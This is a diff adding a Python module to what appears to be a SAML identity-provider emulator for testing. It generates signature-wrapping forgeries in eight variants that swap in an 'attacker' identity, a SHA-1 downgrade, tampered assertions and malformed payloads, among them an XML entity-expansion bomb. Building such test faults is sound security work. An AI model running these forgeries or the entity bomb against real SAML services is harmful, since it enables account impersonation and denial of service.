@@ -1,0 +1,185 @@
+"""Faults carried out on XML: edits before and after signing, wrapped signatures, and payloads that are none."""
+
+from __future__ import annotations
+
+import base64
+import copy
+import re
+import zlib
+from collections.abc import Sequence
+from urllib.parse import quote
+
+from lxml import etree
+
+from emulator.errors import FederationError
+from idp.assertion import ASSERTION_NAMESPACE, PROTOCOL_NAMESPACE, SIGNATURE_NAMESPACE
+from idp.faults import Fault
+
+_SAML = f"{{{ASSERTION_NAMESPACE}}}"
+_SAMLP = f"{{{PROTOCOL_NAMESPACE}}}"
+_SIGNATURE = f"{{{SIGNATURE_NAMESPACE}}}Signature"
+_STEP = re.compile(r"(\w+)((?:\[\d+\])?)")
+_OVERSIZED_CHARACTERS = 100_001
+EVIL_NAME = "attacker"
+
+
+def edit(xml: str, faults: Sequence[Fault], *, kind: str) -> str:
+    """Returns XML with the faults of one kind, ``element`` or ``tamper``, carried out.
+
+    Raises:
+        FederationError: a path leads nowhere.
+    """
+    wanted = [fault for fault in faults if fault.kind == kind]
+    if not wanted:
+        return xml
+    root = etree.fromstring(xml.encode())
+    for fault in wanted:
+        _edit(_find(root, fault.target), fault)
+    return _text(root)
+
+
+def _find(root: etree._Element, path: str) -> etree._Element:
+    steps = _STEP.findall(path.removeprefix("/").removeprefix("Response/"))
+    found = root.xpath("." + "".join(f"/*[local-name()='{name}']{index}" for name, index in steps))
+    if not isinstance(found, list) or not found or not isinstance(found[0], etree._Element):
+        raise FederationError(f"the Response has no {path}", expected="a path of local names such as Assertion/Subject/NameID")
+    return found[0]
+
+
+def _edit(element: etree._Element, fault: Fault) -> None:
+    parent = element.getparent()
+    if fault.attribute_name:
+        if fault.operation == "remove":
+            element.attrib.pop(fault.attribute_name, None)
+        else:
+            element.set(fault.attribute_name, fault.values[0])
+    elif fault.operation == "set":
+        for child in list(element):
+            element.remove(child)
+        element.text = fault.values[0]
+    elif parent is None:
+        raise FederationError("the Response itself cannot be removed or doubled", received=fault.target)
+    elif fault.operation == "duplicate":
+        parent.insert(parent.index(element) + 1, copy.deepcopy(element))
+    else:
+        parent.remove(element)
+
+
+def wrap(xml: str, variant: str) -> str:
+    """Returns a signed Response with a forged assertion wrapped around, before or inside the signed one.
+
+    The eight variants of the SAML Raider tool: 1 and 2 wrap the Response, 3 to 8 the assertion.
+    """
+    root = etree.fromstring(xml.encode())
+    original = root.find(f"{_SAML}Assertion")
+    if original is None:
+        raise FederationError("there is no assertion to wrap")
+    evil = _evil(original)
+    if variant in {"xsw1", "xsw2"}:
+        return _text(_wrap_response(root, before=variant == "xsw2"))
+    position = root.index(original)
+    if variant == "xsw3":
+        root.insert(position, evil)
+    elif variant == "xsw4":
+        root.replace(original, evil)
+        evil.append(original)
+    elif variant == "xsw5":
+        signature = original.find(_SIGNATURE)
+        _move(signature, evil)
+        root.replace(original, evil)
+        root.append(original)
+    elif variant == "xsw6":
+        signature = original.find(_SIGNATURE)
+        _move(signature, evil)
+        root.replace(original, evil)
+        if signature is not None:
+            signature.append(original)
+    elif variant == "xsw7":
+        extensions = etree.Element(f"{_SAMLP}Extensions")
+        extensions.append(evil)
+        root.insert(position, extensions)
+    else:
+        holder = etree.Element(f"{{{SIGNATURE_NAMESPACE}}}Object")
+        signature = original.find(_SIGNATURE)
+        root.replace(original, evil)
+        _move(signature, evil)
+        holder.append(original)
+        if signature is not None:
+            signature.append(holder)
+    return _text(root)
+
+
+def _move(signature: etree._Element | None, target: etree._Element) -> None:
+    if signature is not None:
+        target.insert(1, signature)
+
+
+def _wrap_response(root: etree._Element, *, before: bool) -> etree._Element:
+    evil = copy.deepcopy(root)
+    evil.set("ID", "id00000000000000000000000000")
+    assertion = evil.find(f"{_SAML}Assertion")
+    if assertion is not None:
+        evil.replace(assertion, _evil(assertion))
+    signature = evil.find(_SIGNATURE)
+    original = copy.deepcopy(root)
+    inner = original.find(_SIGNATURE)
+    if inner is not None:
+        original.remove(inner)
+    if signature is not None:
+        if before:
+            signature.addprevious(original)
+        else:
+            signature.append(original)
+    return evil
+
+
+def _evil(assertion: etree._Element) -> etree._Element:
+    evil = copy.deepcopy(assertion)
+    evil.set("ID", "id11111111111111111111111111")
+    signature = evil.find(_SIGNATURE)
+    if signature is not None:
+        evil.remove(signature)
+    name_id = evil.find(f"{_SAML}Subject/{_SAML}NameID")
+    if name_id is not None:
+        name_id.text = EVIL_NAME
+    for attribute in evil.iter(f"{_SAML}Attribute"):
+        if attribute.get("Name", "").endswith("/RoleSessionName"):
+            attribute[0].text = EVIL_NAME
+    return evil
+
+
+def with_sha1(xml: str) -> str:
+    """Returns XML whose signature templates ask for RSA-SHA1 and SHA-1."""
+    return xml.replace("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", "http://www.w3.org/2000/09/xmldsig#rsa-sha1").replace(
+        "http://www.w3.org/2001/04/xmlenc#sha256", "http://www.w3.org/2000/09/xmldsig#sha1"
+    )
+
+
+def payload(xml: bytes, kind: str) -> str:
+    """Returns what is posted as SAMLResponse for a fault of kind ``payload``."""
+    text = base64.b64encode(xml).decode()
+    bomb = '<!DOCTYPE r [<!ENTITY a "ha">' + "".join(
+        f'<!ENTITY {name} "{f"&{previous};" * 10}">' for previous, name in zip("abcdefgh", "bcdefghi", strict=True)
+    )
+    document = xml.partition(b"?>")[2].decode()
+    payloads = {
+        "not-base64": lambda: "*** this is not base64 ***",
+        "not-xml": lambda: _encode("this is not XML"),
+        "doctype": lambda: _encode(f"<!DOCTYPE Response>{document}"),
+        "entity-bomb": lambda: _encode(f"{bomb}]>{document.replace('urn:amazon', '&i;urn:amazon')}"),
+        "oversized": lambda: text + "A" * (_OVERSIZED_CHARACTERS - len(text)),
+        "empty": lambda: "",
+        "html": lambda: _encode("<html><body>Sign in</body></html>"),
+        "deflated": lambda: base64.b64encode(zlib.compress(xml)[2:-4]).decode(),
+        "url-encoded": lambda: quote(text, safe="") + "%3D",
+        "truncated": lambda: text[: len(text) // 2 | 1],
+    }
+    return payloads[kind]()
+
+
+def _encode(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+def _text(root: etree._Element) -> str:
+    return '<?xml version="1.0" encoding="UTF-8"?>' + str(etree.tostring(root, encoding="unicode"))
